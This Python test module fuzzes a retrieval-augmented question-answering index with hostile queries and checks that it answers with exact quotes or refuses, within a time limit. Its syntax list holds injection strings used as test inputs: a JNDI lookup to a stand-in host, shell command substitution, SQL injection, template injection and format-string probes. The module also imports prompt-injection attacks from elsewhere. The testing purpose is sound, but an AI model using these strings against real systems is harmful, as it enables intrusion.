"""Hostile questions: an answer of quotes, or a clear refusal, in bounded time."""

import random
import time
from pathlib import Path

from rag import Index, Settings, build_index
from rag.errors import UsageError
from tests.conftest import SEEDS
from tests.torture.instructions import attacks
from tests.torture.payloads import PAYLOADS

_SECONDS = 60
"""Far more than an answer takes: two cores may be busy with other work."""
_WORDS = (
    "Binance user assets safe SEC charges 2023 Who What penalty fined $4.3 billion denies "
    "alleged court order settlement when and or not in the of"
).split()
_SYNTAX = (
    'text:"', "title:x", "AND", "OR", "NOT", "+", "-", "~2", "^9", "*", "?", "[a TO z]", "{a TO *]",
    "(((", ")))", '"', "''", "\\", "/x.*/", "IN [a b]", "*:*", "text:>5", "&&", "||", "!", "NEAR/3",
    "%s", "%n%n%n", "{}", "{0.__class__}", "${jndi:ldap://leak.test/a}", "{{7*7}}", "$(id)", "`id`",
    "' OR 1=1 --", "\0", "\x1b[2J", "\r\n", "\u202e", "\ud800", "\ufffe", "\U000e0041", "é" * 9,
    "a\u0301" * 50, "𝔅𝔦𝔫𝔞𝔫𝔠𝔢", "٣٤", "½", "９９", "I" * 300, "9" * 300, "$" * 300, "1,000,000.00",
    "between 1 and", "from 9999-99-99 to", "before 0", "top 99999999999999999999", "largest -1",
)  # fmt: skip


class Questions:
    """Questions of all kinds, to the index of the seeds."""

    def __init__(self, folder: Path) -> None:
        build_index([SEEDS], settings=Settings(index=folder / "index"))
        self._index = Index.open(folder / "index")
        self._attacks = attacks()

    def trial(self, draw: random.Random, number: int) -> str:
        """Ask one question, in half of the trials after another one."""
        question = self._question(draw)
        history = [self._question(draw)[:3000]] if draw.random() < 0.5 else []
        began = time.monotonic()
        try:
            answer = self._index.ask(question, history)
        except UsageError as error:
            assert str(error).strip()
            assert len(str(error)) < 1000, "the message repeats the question"
            outcome = "refused"
        else:
            for claim in answer.claims:
                assert claim.text == claim.citations[0].quote
                document = claim.citations[0].document
                assert claim.text in document.text
            outcome = answer.outcome
        seconds = time.monotonic() - began
        assert seconds < _SECONDS, f"{seconds:.0f} s: {question[:100]!r} … ({len(question):,})"
        return outcome

    def _question(self, draw: random.Random) -> str:
        kind = draw.randrange(8)
        if kind == 0:
            return draw.choice(_WORDS + list(_SYNTAX)) * draw.choice((1, 900, 3_000, 1_000_000))
        if kind == 1:
            return "".join(chr(draw.randrange(0x20)) for _ in range(draw.randrange(1, 300)))
        if kind == 2:
            points = (draw.randrange(0x110000) for _ in range(draw.randrange(1, 400)))
            return "".join(map(chr, points))
        if kind == 3:
            return draw.choice(PAYLOADS)
        if kind == 4:
            return draw.choice(self._attacks)
        words = [draw.choice(_WORDS) for _ in range(draw.randrange(1, 30))]
        for _ in range(draw.randrange(1, 8)):
            words.insert(draw.randrange(len(words) + 1), draw.choice(_SYNTAX))
        return draw.choice((" ", " ", "")).join(words)
